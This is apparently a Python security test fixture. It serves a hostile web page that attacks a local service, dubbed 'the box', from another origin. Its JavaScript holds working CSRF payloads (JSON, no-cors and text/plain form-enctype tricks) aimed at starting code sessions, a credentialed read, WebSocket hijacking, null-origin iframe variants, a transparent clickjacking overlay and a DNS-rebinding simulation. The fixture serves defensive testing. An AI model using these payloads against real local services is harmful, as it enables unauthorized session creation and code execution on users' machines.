"""Somebody else's site, which a person has open beside their box, and what its pages try."""

from __future__ import annotations

import contextlib
import http.server
import socket
import threading
from collections.abc import Iterator
from typing import Any

# Each attempt says whether it got through as far as a page can see; the rest is looked up at the box. `base` is where
# the box is, `mark` begins the names of the sessions that this page wants to start there.
ATTACK = """
const source = document.currentScript.textContent;
const wish = (mark, way) => JSON.stringify({agent: "echo", name: mark + "-" + way});
const never = (seconds) => new Promise(done => setTimeout(done, seconds * 1000, "timeout"));
const post = (base, how) => fetch(base + "/v1/code/sessions", {method: "POST", credentials: "include", ...how});

const WAYS = {
  read: async base => {
    const answer = await fetch(base + "/v1/box", {credentials: "include"});
    return answer.ok && "name" in await answer.json();
  },
  json: async (base, mark) =>
    (await post(base, {headers: {"content-type": "application/json"}, body: wish(mark, "json")})).ok,
  blind: async (base, mark) => {
    await post(base, {mode: "no-cors", headers: {"content-type": "text/plain"}, body: wish(mark, "blind")});
    return false;  // nobody tells; the box knows
  },
  form: (base, mark) => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "answer-" + mark;
    const form = document.createElement("form");
    form.action = base + "/v1/code/sessions";
    form.method = "POST";
    form.enctype = "text/plain";
    form.target = frame.name;
    const field = document.createElement("input");
    field.name = '{"agent": "echo", "name": "' + mark + '-form", "prompt": "';
    field.value = '"}';
    form.append(field);
    document.body.append(frame, form);
    form.submit();
    setTimeout(() => { frame.onload = () => done(false); }, 0);
  }),
  guess: async (base, mark, code) => {  // a pairing that waits, whose code came out somewhere
    const body = JSON.stringify({code: code || mark + "-guess", commit: "A".repeat(43)});
    const how = {method: "POST", mode: "no-cors", credentials: "include", body};
    await fetch(base + "/v1/pairings/claim", {...how, headers: {"content-type": "text/plain"}});
    return false;
  },
  websocket: base => new Promise(done => {
    const line = new WebSocket(base.replace("http", "ws") + "/v1/stream", ["rc.v1"]);
    line.onmessage = () => done(true);
    line.onerror = line.onclose = () => done(false);
  }),
};

async function attack(base, mark, code) {
  // Who hands a cookie to every visitor, hands it to this one.
  await Promise.race([fetch(base + "/", {mode: "no-cors", credentials: "include"}).catch(() => {}), never(5)]);
  const tried = Object.entries(WAYS).map(async ([way, go]) =>
    [way, await Promise.race([go(base, mark, code).catch(error => String(error)), never(5)])]);
  return Object.fromEntries(await Promise.all(tried));
}

// The same from a document that has no origin: it is `null` to whom it asks.
const attackFromNowhere = (how, base, mark, code) => new Promise(done => {
  const html = "<body><script>" + source + "\\nattack(" + [base, mark, code].map(each => JSON.stringify(each)) +
    ").then(result => parent.postMessage(result, '*'))</" + "script>";
  addEventListener("message", event => done({origin: event.origin, ...event.data}), {once: true});
  const frame = document.createElement("iframe");
  if (how === "sandbox") {
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = html;
  } else {
    frame.src = "data:text/html;charset=utf-8," + encodeURIComponent(html);
  }
  document.body.append(frame);
});

// The box's page over all of ours, not to be seen: the person believes to click something of ours.
const cover = (base, mark) => new Promise(done => {
  const frame = document.createElement("iframe");
  frame.id = "cover";
  frame.style = "position: fixed; inset: 0; width: 100%; height: 100%; opacity: 0.01";
  frame.onload = () => done(true);
  frame.src = base + "/#" + mark + "-frame";
  document.body.append(frame);
});
"""

PAGE = f"<!doctype html><title>another site</title><body><script>{ATTACK}</script>"


class _Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.send_header("content-length", str(len(PAGE)))
        self.end_headers()
        with contextlib.suppress(BrokenPipeError):
            self.wfile.write(PAGE.encode())

    def log_message(self, *_: object) -> None:
        pass


class _Site(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, *_: Any) -> None:
        """A browser that closes its tab leaves requests half-answered."""


class _Site6(_Site):
    address_family = socket.AF_INET6


@contextlib.contextmanager
def site() -> Iterator[int]:
    """The other site: its port on this machine."""
    with _served(_Site(("0.0.0.0", 0), _Page)) as server:
        yield server.server_address[1]


@contextlib.contextmanager
def site_beside(port: int) -> Iterator[None]:
    """The other site at ::1, on the port that a box has on 127.0.0.1, until it goes: then a name that stands for both
    addresses leads to the box. That is what a DNS server of an attacker does."""
    with _served(_Site6(("::1", port), _Page)):
        yield


@contextlib.contextmanager
def _served(server: Any) -> Iterator[Any]:
    with server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()
